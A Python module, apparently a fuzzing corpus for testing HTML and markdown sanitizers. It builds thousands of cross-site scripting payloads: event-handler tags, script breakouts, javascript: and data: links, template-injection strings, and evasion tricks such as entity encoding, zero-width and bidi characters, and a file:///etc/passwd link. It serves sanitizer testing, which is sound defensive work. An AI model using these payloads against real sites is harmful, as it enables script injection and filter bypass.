"""Texts that try to become code in a page: scripts, handlers, links with schemes, broken tags, and their disguises.

`payloads()` gives some thousands of them, always the same: every shape of tag with every handler and every way of
writing the call, and each of those disguised by cases, entities, blanks, control characters and comments.
"""

CALLS = ("alert(1)", "alert`1`", "confirm(1)", "prompt(1)", "top['al'+'ert'](1)", "window.alert(1)", "(alert)(1)", "eval('alert(1)')")

HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onstart", "onbegin", "onanimationstart",
    "onpointerenter", "onwheel", "oncut", "onpageshow", "onhashchange", "onresize", "onscroll", "onbeforeprint", "onsubmit", "oninput",
)

TAGS = (
    "<img src=x {h}={c}>", "<svg {h}={c}>", "<svg><animate {h}={c} attributeName=x dur=1s>", "<body {h}={c}>", "<input autofocus {h}={c}>",
    "<details open {h}={c}>", "<video src=x {h}={c}>", "<audio src=x {h}={c}>", "<iframe src=x {h}={c}>", "<object data=x {h}={c}>",
    "<marquee {h}={c}>x</marquee>", "<a href=# {h}={c}>x</a>", "<div {h}={c} style=animation-name:x>x</div>", "<select autofocus {h}={c}>",
    "<math><mtext {h}={c}>", "<x {h}={c} tabindex=1>x", "<img src=x\n{h}\n=\n{c}\n>", "<img/src=x/{h}={c}>", "<img src='x'{h}='{c}'>",
    "<svg/{h}={c}//", "\"{h}=\"{c}\" x=\"", "' {h}='{c}' x='", "\" autofocus {h}={c} x=\"", "` {h}={c} x=`", "--><img src=x {h}={c}>",
)

SCRIPTS = (
    "<script>{c}</script>", "<script src=data:text/javascript,{c}></script>", "<ScRiPt>{c}</sCrIpT>", "<script\n>{c}</script\n>",
    "</script><script>{c}</script>", "</title><script>{c}</script>", "</textarea><script>{c}</script>", "</style><script>{c}</script>",
    "<!--<script>{c}</script>-->", "--><script>{c}</script><!--", "<![CDATA[<script>{c}</script>]]>", "]]><script>{c}</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>", "<noscript><p title=\"</noscript><script>{c}</script>\">", "<template><script>{c}</script></template>",
    "<svg><script>{c}</script></svg>", "<svg><script xlink:href=data:,{c} />", "<math><style><img src=x onerror={c}></style></math>",
    "<iframe srcdoc='<script>{c}</script>'></iframe>", "<embed src=javascript:{c}>", "<base href=javascript:{c}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>", "<link rel=stylesheet href=javascript:{c}>", "<style>@import 'javascript:{c}'</style>",
    "<form action=javascript:{c}><button>x</button></form>", "<button formaction=javascript:{c}>x</button>", "<isindex action=javascript:{c}>",
    "<xmp><script>{c}</script></xmp>", "<plaintext><script>{c}</script>", "<a id=\"c1-2\"><script>{c}</script></a>",
    "<a id=\"c1-2\" onmouseover={c}></a>", "<a id=\"c1-2\"></a><script>{c}</script>", "</p></div></main><script>{c}</script>",
    "\u2028<script>{c}</script>", "\u2029{c}\u2029", "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "\\x3cscript>{c}</script>",
    "&lt;script&gt;{c}&lt;/script&gt;", "&#60;script&#62;{c}&#60;/script&#62;", "&#x3c;script&#x3e;{c}&#x3c;/script&#x3e;",
    "%3Cscript%3E{c}%3C/script%3E", "{{constructor.constructor('{c}')()}}", "${{{c}}}", "{{{{{{x}}}}}}", "{{#section}}{c}{{/section}}", "<%= {c} %>",
)

SCHEMES = (
    "javascript:{c}", "JaVaScRiPt:{c}", "java\tscript:{c}", "java\nscript:{c}", " javascript:{c}", "\x01javascript:{c}", "javascript&colon;{c}",
    "javascript&#58;{c}", "&#106;avascript:{c}", "%6Aavascript:{c}", "data:text/html,<script>{c}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:{c}", "blob:{c}", "intent:{c}", "file:///etc/passwd", "//example.org/x.js", "\\\\example.org\\x", "view-source:{c}", "filesystem:{c}",
    "mailto:x@y?subject=<script>{c}</script>", "https://example.org/\"onmouseover=\"{c}", "http://[::1]/'{c}'",
)

LINKS = (
    "[x]({s})", "[x](<{s}>)", "![x]({s})", "<{s}>", "[x][r]\n\n[r]: {s}", "[x]: {s} \"{s}\"", "[]({s} \"x\")", "<a href=\"{s}\">x</a>",
    "<area href={s}>", "<svg><a xlink:href={s}><text>x</text></a></svg>", "[![x]({s})]({s})", "x {s} y",
)

DISGUISES = (
    lambda t: t, str.upper, lambda t: t.replace("<", "<\u200b"), lambda t: t.replace(" ", "\x0c"), lambda t: t.replace("=", " = "),
    lambda t: t.replace("<", "\\<"), lambda t: t.replace("<", "`<"), lambda t: t.replace(">", ">\u202e"), lambda t: t + "\ufeff",
    lambda t: t.replace("<", "＜"), lambda t: t.replace("a", "&#97;"), lambda t: "*" + t + "**", lambda t: "|" + t + "|\n|---|\n", lambda t: "\t" + t,
)


def payloads():
    """All of them, each once, in a fixed order."""
    found = {}
    for i, tag in enumerate(TAGS):
        for k, handler in enumerate(HANDLERS):
            for j in range(2):
                call = CALLS[(i + k + j * 3) % len(CALLS)]
                found[tag.format(h=handler, c=call)] = None
    for script in SCRIPTS:
        for call in CALLS:
            found[script.replace("{c}", call)] = None
    for i, link in enumerate(LINKS):
        for k, scheme in enumerate(SCHEMES):
            found[link.replace("{s}", scheme.replace("{c}", CALLS[(i + k) % len(CALLS)]))] = None
    plain = list(found)
    for i, text in enumerate(plain):
        found[DISGUISES[i % len(DISGUISES)](text)] = None
        found[DISGUISES[(i // 3 + 5) % len(DISGUISES)](text)] = None
    return list(found)
